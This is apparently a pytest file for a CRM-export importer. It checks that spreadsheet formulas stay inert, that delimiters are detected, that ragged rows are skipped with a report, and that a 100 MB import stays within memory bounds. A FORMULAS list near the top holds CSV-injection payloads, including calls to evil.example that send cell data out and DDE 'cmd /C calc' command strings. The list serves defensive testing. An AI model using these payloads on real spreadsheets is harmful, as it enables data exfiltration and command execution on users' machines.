"""Hostile and broken CRM exports: formulas stay inert, wrong delimiters fail with a reason,
ragged rows are reported and skipped, and a 100 MB export imports in bounded memory."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from models.tables import Prospect
from tests.conftest import start_pipeline
from tests.reliability.conftest import GOOD_ITEMS, health, serve_good_feed

REPO = Path(__file__).resolve().parents[2]
HEADER = ["Account Name", "Account Owner", "Website", "Industry", "Type"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")"]


def write_csv(path: Path, rows: list[list[str]], delimiter: str = ",") -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter=delimiter).writerows(rows)


def imported(pipeline) -> dict[str, Prospect]:
    with pipeline.sessions() as session:
        return {p.name: p for p in session.scalars(select(Prospect).where(Prospect.archived_at.is_(None)))}


def test_formulas_in_every_column_are_stored_as_inert_text(write_config, tmp_path, feed_server):
    rows = [HEADER] + [[f"Company {n}", formula, "company%d.example" % n, formula, "Prospect"]
                       for n, formula in enumerate(FORMULAS)]
    rows.append(["Negative Numbers Ltd", "Alice Smith", "negative.example", "-42", "Prospect"])
    write_csv(tmp_path / "accounts.csv", rows)
    config = write_config([{"id": "crm", "kind": "crm", "path": "accounts.csv", "preset": "salesforce"}],
                          prospects=[])
    pipeline, worker = start_pipeline(config)
    [outcome] = worker.tick()
    assert outcome.status == "ok", outcome.error
    found = imported(pipeline)
    for n, formula in enumerate(FORMULAS):
        prospect = found[f"Company {n}"]
        # A spreadsheet opening any later export of these values sees text, never a formula.
        assert prospect.industry.startswith("'") and prospect.industry[1:].strip() == formula.strip()
        assert prospect.owners and not any(owner[:1] in "=+-@\t\r" for owner in prospect.owners), prospect.owners
    assert found["Negative Numbers Ltd"].industry == "-42"  # plain numbers stay numbers


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_other_delimiters_are_detected(write_config, tmp_path, delimiter):
    write_csv(tmp_path / "accounts.csv", [HEADER, ["Acme Corporation", "Alice Smith", "acme.example", "Aero", "x"],
                                          ["Globex, Inc.", "Bob Jones", "globex.example", "Energy", "y"]], delimiter)
    pipeline, worker = start_pipeline(write_config(
        [{"id": "crm", "kind": "crm", "path": "accounts.csv", "preset": "salesforce"}], prospects=[]))
    [outcome] = worker.tick()
    assert outcome.status == "ok"
    assert set(imported(pipeline)) == {"Acme Corporation", "Globex, Inc."}


def test_a_wrong_configured_delimiter_fails_the_source_with_a_reason_and_nothing_else(write_config, tmp_path,
                                                                                     feed_server):
    write_csv(tmp_path / "accounts.csv", [HEADER, ["Acme Corporation", "Alice Smith", "acme.example", "Aero", "x"]],
              ";")
    pipeline, worker = start_pipeline(write_config(
        [{"id": "crm", "kind": "crm", "path": "accounts.csv", "preset": "salesforce", "delimiter": ","},
         serve_good_feed(feed_server)], prospects=[{"id": "siemens", "name": "Siemens AG"}]))
    outcomes = {o.source_id: o for o in worker.tick()}
    assert outcomes["crm"].status == "failed"
    assert "no name column" in outcomes["crm"].error and "set mapping.name" in outcomes["crm"].error
    assert health(pipeline.sessions)["crm"]["last_error"] == outcomes["crm"].error
    assert set(imported(pipeline)) == {"Siemens AG"}  # nothing half-imported
    assert outcomes["good"].counts.new == len(GOOD_ITEMS)


def test_ragged_rows_are_reported_with_their_line_and_the_rest_imports(write_config, tmp_path):
    rows = [HEADER, ["Acme Corporation", "Alice Smith", "acme.example", "Aero", "x"],
            ["Short Row Inc"], ["Long Row Inc", "A", "long.example", "I", "T", "surplus", "more"],
            ["Trailing Empties Inc", "Bob Jones", "trailing.example", "Energy", "y", "", ""],
            [], ["Globex, Inc.", "Bob Jones", "globex.example", "Energy", "y"]]
    write_csv(tmp_path / "accounts.csv", rows)
    pipeline, worker = start_pipeline(write_config(
        [{"id": "crm", "kind": "crm", "path": "accounts.csv", "preset": "salesforce"}], prospects=[]))
    [outcome] = worker.tick()
    assert outcome.status == "ok"
    assert set(imported(pipeline)) == {"Acme Corporation", "Trailing Empties Inc", "Globex, Inc."}
    note = health(pipeline.sessions)["crm"]["last_run_note"]
    assert "accounts.csv:3: 1 fields where the header has 5 (row skipped)" in note
    assert "accounts.csv:4: 7 fields where the header has 5 (row skipped)" in note


# A child process, so its peak resident memory is the import's alone.
MEASURE = """
import json, resource, sys
from connectors.base import SourceSpec
from connectors.crm import CrmConnector
from connectors.http import PoliteClient
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
result = CrmConnector(PoliteClient()).fetch(SourceSpec(id="big", kind="crm", url="", settings={
    "path": sys.argv[1], "preset": "salesforce", "records": "accounts"}))
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"accounts": len(result.accounts), "before_kb": before, "peak_kb": peak,
                  "warnings": list(result.warnings)}))
"""


@pytest.mark.slow  # writes and parses 100 MB
def test_a_100_mb_export_imports_in_bounded_memory(tmp_path):
    path = tmp_path / "accounts.csv"
    filler = "lorem ipsum dolor sit amet " * 180  # ~5 kB of description per row: a wide export
    rows = 0
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER + ["Description"])
        while handle.tell() < 100 * 2 ** 20:
            writer.writerow([f"Company {rows}", "Alice Smith", f"c{rows}.example", "Software", "Prospect", filler])
            rows += 1
    size_mb = path.stat().st_size / 2 ** 20
    out = subprocess.run([sys.executable, "-c", MEASURE, str(path)], cwd=REPO, capture_output=True, text=True,
                         timeout=600)
    assert out.returncode == 0, out.stderr[-2000:]
    report = json.loads(out.stdout.strip().splitlines()[-1])
    assert report["accounts"] == rows and report["warnings"] == []
    growth_mb = (report["peak_kb"] - report["before_kb"]) / 1024
    # The file is read whole (bytes, then text): a few times its size, never tens of times.
    assert growth_mb < 4 * size_mb, f"{growth_mb:.0f} MB for a {size_mb:.0f} MB export"
